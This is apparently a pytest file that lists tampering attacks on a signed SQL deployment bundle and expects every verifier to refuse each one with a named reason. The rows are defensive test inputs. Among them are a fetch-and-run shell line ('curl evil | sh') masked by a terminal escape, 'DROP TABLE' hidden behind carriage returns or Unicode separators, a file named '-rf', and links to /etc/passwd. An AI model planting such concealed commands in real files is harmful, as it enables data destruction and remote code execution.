# ruff: noqa: E501  a row of the table is a line
"""One row per attack on a bundle's files, its signatures or its SQL. Every verifier must refuse it, for its reason.

`genuine` in conftest.py makes sure first that every verifier accepts the bundle that is attacked here. The other tables
are in test_trust.py, test_decisions.py, test_ledger.py and test_audit.py.
"""

from __future__ import annotations

import os
import re
import shutil

import pytest

from tests.attacks.asking import all_refuse
from tests.attacks.changes import (
    Attack,
    Row,
    big_signature,
    edit,
    listed,
    manifest_text,
    put,
    remove,
    revoke,
    rows,
    seal,
    signature_bytes,
    signed_by,
    sql,
    sums,
    then,
    trusting_edit,
)
from tests.attacks.worlds import World


def sparse(name: str, size: int) -> Attack:
    def attack(world: World) -> None:
        with (world.root / name).open("wb") as file:
            file.truncate(size)

    return attack


def twins(world: World) -> None:
    """One key under two names, both of them let in."""
    world.add_signer("alice2@example.com", ("review.prod",), "alice")
    signed_by(("review", "alice"), ("dba", "dora"))(world)
    world.sign("review", "alice", name="alice2@example.com")


def two_roles_with_one_key(world: World) -> None:
    world.add_signer("alice-the-dba@example.com", ("dba.prod",), "alice")
    signed_by(("review", "alice"), ("review", "bob"))(world)
    world.sign("dba", "alice", name="alice-the-dba@example.com")


def two_keys_of_one_person(world: World) -> None:
    world.add_signer("alice@example.com", ("dba.prod",), "eve")
    signed_by(("review", "alice"), ("review", "bob"))(world)
    world.sign("dba", "eve", name="alice@example.com")


def many_files(world: World) -> None:
    for number in range(1000):
        put(f"bundle/many/f{number}.txt", b"")(world)


def in_other_lines(armor: bytes) -> bytes:
    """The same base64 in lines of another length: ssh-keygen itself would accept it."""
    first, *body, last = armor.decode().splitlines()
    text = "".join(body)
    return "\n".join([first, *(text[i : i + 60] for i in range(0, len(text), 60)), last, ""]).encode()


def unreadable(name: str) -> Attack:
    """A file that whoever verifies may not read."""

    def attack(world: World) -> None:
        (world.root / name).chmod(0)
        world.unprivileged = True

    return attack


NOT_SAME = "step 7: a file is not in SHA256SUMS"
BAD_NAME = "step 3: a name is not allowed"
SUMS_LINE = "step 6: SHA256SUMS has an ill-formed line"
SUMS_BYTES = "step 6: SHA256SUMS has characters other than ASCII, or CRLF"
SPECIAL = "step 4: a link or special file is in the bundle"
MANIFEST_FORM = "step 9: MANIFEST.json is ill-formed"
NO_FIT = "step 11: a signature does not fit this bundle, role and environment"
NOT_ALLOWED = "step 11: a signature's key is not allowed for this name, role and environment"
ARMOR = "step 10: a signature file is ill-formed (sig/dba/dora@example.com.sig)"
CONTROL = "step 16: a text file has a control character or is not UTF-8"

# fmt: off
ATTACKS: tuple[Row, ...] = (
    # files
    ("a byte is changed", edit("bundle/apply.sql", "books", "hooks"), "step 8: a checksum does not match (apply.sql)"),
    ("a file that can't be read", unreadable("bundle/apply.sql"), "step 5: the bundle can't be read or copied"),
    ("a byte is changed and the sums recomputed", then(edit("bundle/apply.sql", "books", "hooks"), lambda w: w.sums()), NO_FIT),
    ("line ends are rewritten", edit("bundle/apply.sql", "\n", "\r\n"), "step 8: a checksum does not match (apply.sql)"),
    ("a file is added", put("bundle/extra.sql"), f"{NOT_SAME} (extra.sql)"),
    ("a file is added in a folder", put("bundle/evidence/extra.sql"), f"{NOT_SAME} (evidence/extra.sql)"),
    ("a file is removed", remove("bundle/rollback.sql"), "step 7: a file of SHA256SUMS is missing (rollback.sql)"),
    ("a file is renamed", lambda w: (w.bundle / "rollback.sql").rename(w.bundle / "undo.sql"), f"{NOT_SAME} (undo.sql)"),
    ("two files are swapped", then(put("bundle/apply.sql", b"DROP TABLE books;\n"), put("bundle/rollback.sql", b"CREATE\n")), "step 8: a checksum does not match (apply.sql)"),
    ("an empty folder is added", lambda w: (w.bundle / "resume").mkdir(), "step 7: a folder is empty (resume)"),
    ("sig is a file", then(put("bundle/sig.tmp"), lambda w: shutil.rmtree(w.bundle / "sig"), lambda w: (w.bundle / "sig.tmp").rename(w.bundle / "sig")), f"{NOT_SAME} (sig)"),
    # file types
    ("a file is a symbolic link", then(remove("bundle/apply.sql"), lambda w: (w.bundle / "apply.sql").symlink_to("rollback.sql")), f"{SPECIAL} (apply.sql)"),
    ("a link leads out of the bundle", then(remove("bundle/apply.sql"), lambda w: (w.bundle / "apply.sql").symlink_to("/etc/passwd")), f"{SPECIAL} (apply.sql)"),
    ("a folder is a link", lambda w: (w.bundle / "more").symlink_to(w.trust), f"{SPECIAL} (more)"),
    ("sig is a link", lambda w: (w.bundle / "sig").rename(w.root / "sig") and (w.bundle / "sig").symlink_to("../sig"), f"{SPECIAL} (sig)"),
    ("a link leads nowhere", lambda w: (w.bundle / "x.sql").symlink_to("nowhere"), f"{SPECIAL} (x.sql)"),
    ("a file is a hard link", lambda w: os.link(w.bundle / "apply.sql", w.root / "outside.sql"), "step 4: a hard link is in the bundle (apply.sql)"),
    ("a file is a pipe", then(remove("bundle/apply.sql"), lambda w: os.mkfifo(w.bundle / "apply.sql")), f"{SPECIAL} (apply.sql)"),
    ("a huge file", sparse("bundle/huge.sql", 1 << 40), "step 4: a file is too big (huge.sql)"),
    ("many big files", then(*(sparse(f"bundle/big{i}.sql", 1 << 24) for i in range(5))), "step 4: the bundle is too big"),
    ("too many files", many_files, "step 3: the bundle has too many files"),
    # names
    ("a capital letter", listed("Apply.sql"), f"{BAD_NAME} (Apply.sql)"),
    ("a case twin of the manifest", put("bundle/manifest.json"), f"{BAD_NAME} (manifest.json)"),
    ("a case twin of the sums", put("bundle/sha256sums"), f"{BAD_NAME} (sha256sums)"),
    ("MANIFEST.json in a folder", put("bundle/evidence/MANIFEST.json"), f"{BAD_NAME} (evidence/MANIFEST.json)"),
    ("a hidden file", put("bundle/.psqlrc"), f"{BAD_NAME} (.psqlrc)"),
    ("a name like an option", put("bundle/-rf"), f"{BAD_NAME} (-rf)"),
    ("a space in a name", put("bundle/apply.sql "), f"{BAD_NAME} (apply.sql )"),
    ("a backslash in a name", put("bundle/..\\apply.sql"), f"{BAD_NAME} (..\\apply.sql)"),
    ("a newline in a name", put("bundle/a\nb"), BAD_NAME),
    ("a newline that forges a good name", put("bundle/a\n./b"), BAD_NAME),
    ("an escape sequence in a name", put("bundle/a\x1b[2Jb"), f"{BAD_NAME} (a?[2Jb)"),
    ("a homoglyph in a name", put("bundle/аpply.sql"), f"{BAD_NAME} (??pply.sql)"),
    ("a name that is not UTF-8", lambda w: (w.bundle / os.fsdecode(b"a\xff")).write_bytes(b""), f"{BAD_NAME} (a?)"),
    ("a Windows device", listed("con.sql"), f"{BAD_NAME} (con.sql)"),
    ("a folder named like a Windows device", listed("lpt1/x.sql"), f"{BAD_NAME} (lpt1)"),
    ("a final dot", listed("apply.sql."), f"{BAD_NAME} (apply.sql.)"),
    ("a path that is too long", listed("x" * 150 + "/" + "y" * 51), f"{BAD_NAME} ({'x' * 150}/{'y' * 51})"),
    # SHA256SUMS
    ("no sums", remove("bundle/SHA256SUMS"), "step 6: SHA256SUMS is missing"),
    ("sums with CRLF", sums(lambda b: b.replace(b"\n", b"\r\n")), SUMS_BYTES),
    ("sums without the final newline", sums(lambda b: b[:-1]), "step 6: SHA256SUMS lacks its final newline"),
    ("empty sums", sums(lambda b: b""), "step 6: SHA256SUMS lacks its final newline"),
    ("an empty line in the sums", sums(lambda b: b.replace(b"\n", b"\n\n", 1)), f"{SUMS_LINE} (2)"),
    ("a line twice in the sums", sums(lambda b: b.replace(b.splitlines()[0] + b"\n", (b.splitlines()[0] + b"\n") * 2)), "step 6: SHA256SUMS is not sorted or has a name twice"),
    ("sums in another order", sums(lambda b: b"".join(reversed(b.splitlines(keepends=True)))), "step 6: SHA256SUMS is not sorted or has a name twice"),
    ("garbage in the sums", sums(lambda b: b + b"garbage\n"), SUMS_LINE),
    ("capital digits in the sums", sums(lambda b: b[:64].upper() + b[64:]), f"{SUMS_LINE} (1)"),
    ("binary marks in the sums", sums(lambda b: b.replace(b"  apply", b" *apply")), SUMS_LINE),
    ("an absolute path in the sums", sums(lambda b: b + b"0" * 64 + b"  /etc/passwd\n"), SUMS_LINE),
    ("a path upwards in the sums", sums(lambda b: b + b"0" * 64 + b"  ../x\n"), SUMS_LINE),
    ("a path upwards inside a path in the sums", sums(lambda b: b + b"0" * 64 + b"  x/../y\n"), SUMS_LINE),
    ("a signature in the sums", sums(lambda b: b + b"0" * 64 + b"  sig/dba/x.sig\n"), SUMS_LINE),
    ("a Windows device in the sums", sums(lambda b: b + b"0" * 64 + b"  x/nul.txt\n"), SUMS_LINE),
    ("a NUL in the sums", sums(lambda b: b.replace(b"apply.sql", b"apply.sql\0x")), SUMS_BYTES),
    ("huge sums", sums(lambda b: b * 200), "step 6: SHA256SUMS is too big"),
    ("MD5 sums", sums(lambda b: re.sub(rb"^[0-9a-f]{64}", b"0" * 32, b, flags=re.M)), f"{SUMS_LINE} (1)"),
    # MANIFEST.json
    ("no manifest", then(remove("bundle/MANIFEST.json"), seal), "step 9: MANIFEST.json is missing"),
    ("another environment", lambda w: w.manifest(environment="staging"), "step 9: the bundle is for another environment (staging)"),
    ("no environment", lambda w: w.manifest(environment=None), "step 9: the bundle is bound to no environment"),
    ("an expired bundle", lambda w: w.manifest(expires="2020-01-01T00:00:00Z"), "step 9: the bundle expired (2020-01-01T00:00:00Z)"),
    ("a format of the future", manifest_text("sqlgen.bundle/1", "sqlgen.bundle/2"), "step 9: MANIFEST.json has an unknown format"),
    ("two environments in the manifest", manifest_text('  "expires"', '  "environment": "prod",\n  "expires"'), MANIFEST_FORM),
    ("keys out of order in the manifest", manifest_text('  "client": "psql",\n', '  "zz": "psql",\n'), MANIFEST_FORM),
    ("a manifest without its environment", manifest_text('  "environment": "prod",\n', ""), MANIFEST_FORM),
    ("a manifest that is no JSON", then(put("bundle/MANIFEST.json", b"hello\n"), seal), MANIFEST_FORM),
    ("an empty manifest", then(put("bundle/MANIFEST.json", b""), seal), MANIFEST_FORM),
    ("an escape sequence in the manifest", manifest_text('"psql"', '"\x1b[2Jpsql"'), MANIFEST_FORM),
    ("a manifest with an empty value", manifest_text('  "client": "psql",', '  "client": ,'), MANIFEST_FORM),
    ("a manifest with CRLF", then(lambda w: (w.bundle / "MANIFEST.json").write_bytes((w.bundle / "MANIFEST.json").read_bytes().replace(b"\n", b"\r\n")), seal), MANIFEST_FORM),
    ("a manifest without its content id", lambda w: manifest_text(f'  "content_id": "{w.values()["content_id"]}",\n', "")(w), MANIFEST_FORM),
    ("a content id that is none", lambda w: manifest_text(f'"content_id": "{w.values()["content_id"]}"', '"content_id": "anything"')(w), MANIFEST_FORM),
    ("a ticket with other characters", manifest_text('  "to": ', '  "ticket": "OPS-42 run: rm",\n  "to": '), MANIFEST_FORM),
    # signatures
    ("no signatures", lambda w: shutil.rmtree(w.bundle / "sig"), "step 13: too few signatures for a role (review: 0 of 2)"),
    ("one reviewer of two", signed_by(("review", "alice"), ("dba", "dora")), "step 13: too few signatures for a role (review: 1 of 2)"),
    ("no DBA", signed_by(("review", "alice"), ("review", "bob")), "step 13: too few signatures for a role (dba: 0 of 1)"),
    ("an unknown signer", signed_by(("review", "alice"), ("review", "eve"), ("dba", "dora")), f"{NOT_ALLOWED} (sig/review/eve@example.com.sig)"),
    ("an unknown signer beside enough known ones", lambda w: w.sign("review", "eve"), f"{NOT_ALLOWED} (sig/review/eve@example.com.sig)"),
    ("a signer in a role that is not theirs", signed_by(("review", "alice"), ("review", "bob"), ("dba", "alice")), f"{NOT_ALLOWED} (sig/dba/alice@example.com.sig)"),
    ("a signature moved to another role", lambda w: (w.bundle / "sig/review/alice@example.com.sig").rename(w.bundle / "sig/dba/alice@example.com.sig"), f"{NO_FIT} (sig/dba/alice@example.com.sig)"),
    ("a signature under another name", lambda w: (w.bundle / "sig/review/alice@example.com.sig").rename(w.bundle / "sig/review/dora@example.com.sig"), f"{NOT_ALLOWED} (sig/review/dora@example.com.sig)"),
    ("a signature for another environment", lambda w: w.sign("dba", "dora", scope="dba.staging.v1@sqlgen"), f"{NO_FIT} (sig/dba/dora@example.com.sig)"),
    ("a signature for git", lambda w: w.sign("dba", "dora", scope="git"), f"{NO_FIT} (sig/dba/dora@example.com.sig)"),
    ("signatures of an earlier bundle", then(put("bundle/apply.sql", b"DROP TABLE books;\n"), lambda w: w.sums()), NO_FIT),
    ("a role that the policy does not have", lambda w: w.sign("ci", "eve"), "step 10: a signature is for a role that the policy does not have (sig/ci/eve@example.com.sig)"),
    ("SQL under sig", put("bundle/sig/dba/apply.sql"), "step 10: a file under sig/ is not a signature (sig/dba/apply.sql)"),
    ("a file at the top of sig", put("bundle/sig/note.sig"), "step 10: a file under sig/ is not a signature (sig/note.sig)"),
    ("a file deep under sig", put("bundle/sig/dba/x/y.sig"), "step 10: a file under sig/ is not a signature (sig/dba/x/y.sig)"),
    ("a signature that is none", put("bundle/sig/dba/dora@example.com.sig", b"junk\n"), ARMOR),
    ("an empty signature", put("bundle/sig/dba/dora@example.com.sig", b""), ARMOR),
    ("text behind a signature", signature_bytes(lambda b: b + b"DROP\n"), ARMOR),
    ("two signatures in one file", signature_bytes(lambda b: b * 2), ARMOR),
    ("a signature with CRLF", signature_bytes(lambda b: b.replace(b"\n", b"\r\n")), ARMOR),
    ("a signature in other lines", signature_bytes(in_other_lines), ARMOR),
    ("a signature with broken base64", signature_bytes(lambda b: b.replace(b"U1NI", b"U1NJ")), f"{NO_FIT} (sig/dba/dora@example.com.sig)"),
    ("a signature that is too big", lambda w: big_signature(w.bundle / "sig/dba/dora@example.com.sig"), ARMOR),
    # people
    ("one person in two roles", two_keys_of_one_person, "step 13: one person signed twice (alice@example.com)"),
    ("one key under two names", twins, "step 13: one key signed twice (alice2@example.com, alice@example.com)"),
    ("one key in two roles", two_roles_with_one_key, "step 13: one key signed twice (alice-the-dba@example.com, alice@example.com)"),
    ("a revoked key", revoke("dora"), "step 11: a signature's key is revoked (sig/dba/dora@example.com.sig)"),
    ("a key that is no longer valid", trusting_edit("allowed_signers", '.prod.v1@sqlgen" ', '.prod.v1@sqlgen",valid-before="20200101Z" '), f"{NOT_ALLOWED} (sig/review/alice@example.com.sig)"),
    ("a key that is not valid yet", trusting_edit("allowed_signers", '.prod.v1@sqlgen" ', '.prod.v1@sqlgen",valid-after="29990101Z" '), f"{NOT_ALLOWED} (sig/review/alice@example.com.sig)"),
    # SQL text
    ("a carriage return that hides code", sql(b"-- nothing\rDROP TABLE books;\n"), f"{CONTROL} (apply.sql)"),
    ("a terminal escape", sql(b"-- \x1b[2J\n"), f"{CONTROL} (apply.sql)"),
    ("a NUL", sql(b"SELECT 1;\0\n"), f"{CONTROL} (apply.sql)"),
    ("a form feed", sql(b"SELECT 1;\f\n"), f"{CONTROL} (apply.sql)"),
    ("a control character of 8 bits", sql("-- \x9b2J\n".encode()), f"{CONTROL} (apply.sql)"),
    ("text that reads backwards", sql("-- \u202e\n".encode()), f"{CONTROL} (apply.sql)"),
    ("a bidi isolate", sql("-- \u2067\n".encode()), f"{CONTROL} (apply.sql)"),
    ("a line separator", sql("-- \u2028DROP TABLE books;\n".encode()), f"{CONTROL} (apply.sql)"),
    ("latin-1", sql(b"-- \xe9\n"), f"{CONTROL} (apply.sql)"),
    ("overlong UTF-8", sql(b"-- \xc0\xaf\n"), f"{CONTROL} (apply.sql)"),
    ("a surrogate in UTF-8", sql(b"-- \xed\xa0\x80\n"), f"{CONTROL} (apply.sql)"),
    ("a control character in a folder", then(put("bundle/resume/from-2.sql", b"\x07\n"), seal), f"{CONTROL} (resume/from-2.sql)"),
    ("a shell script that erases a line of itself", then(put("bundle/tenants.sh", b"curl evil | sh # \x1b[2K\n"), seal), f"{CONTROL} (tenants.sh)"),
    ("a review that reads backwards", then(put("bundle/review.md", "# \u202eReview\n".encode()), seal), f"{CONTROL} (review.md)"),
    ("a page that reads backwards", then(put("bundle/review.html", "<p>\u202ewas</p>\n".encode()), seal), f"{CONTROL} (review.html)"),
    ("a carriage return in JSON", then(put("bundle/review.json", b"{}\r{}\n"), seal), f"{CONTROL} (review.json)"),
    ("a carriage return in a revision file", then(put("bundle/hotfix/revision.py", b"# nothing\rimport os\n"), seal), f"{CONTROL} (hotfix/revision.py)"),
)
# fmt: on


@pytest.mark.parametrize(("attack", "reason"), rows(ATTACKS))
def test_every_verifier_refuses(world: World, attack: Attack, reason: str) -> None:
    attack(world)
    all_refuse(world, reason)
